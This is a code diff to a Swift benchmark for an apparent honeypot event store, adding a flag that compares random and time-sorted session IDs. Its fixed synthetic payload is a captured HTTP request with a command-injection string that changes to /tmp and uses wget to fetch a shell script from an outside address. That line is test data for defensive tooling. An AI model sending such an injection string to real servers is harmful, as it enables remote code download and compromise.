@@ -15,6 +15,7 @@ struct Bench: ParsableCommand {
         @Option(name: .long) var data: String = "./data"
         @Option(name: .long) var count: Int = 100_000
         @Option(name: .long, help: "Distinct source addresses (public, so GeoIP runs); each comes back for many sessions, as scanners and brute-forcers do.") var sources: Int = 5_000
+        @Flag(name: .long, help: "48 random bits per session id, as before ids sorted by time (for A/B runs of the store's session indexes).") var randomSessions = false
 
         func run() throws {
             let paths = DataPaths(root: data)
@@ -26,9 +27,10 @@ struct Bench: ParsableCommand {
             let payload = PayloadInfo(captured: Array("GET /shell?cd+/tmp;wget+http://198.51.100.1/x.sh HTTP/1.1\r\nHost: a\r\n\r\n".utf8))
             let start = Date()
             // Trap sessions as they arrive: connect, payload, close, each session from one of `sources` addresses.
-            var session = SessionID.random()
+            let newSession = randomSessions ? SessionID.random : { SessionID.next() }
+            var session = newSession()
             for i in 0..<count {
-                if i % 3 == 0 { session = .random() }
+                if i % 3 == 0 { session = newSession() }
                 let ip = addresses[(i / 3) % addresses.count]
                 var e = Event(kind: i % 3 == 1 ? .payload : (i % 3 == 0 ? .sessionConnect : .sessionClose), honeypot: "trap", session: session)
                 e.set(Endpoints(srcIP: ip, srcPort: 40_000 + (i / 3) % 20_000, destIP: "192.0.2.10", destPort: 8080), transport: "tcp")
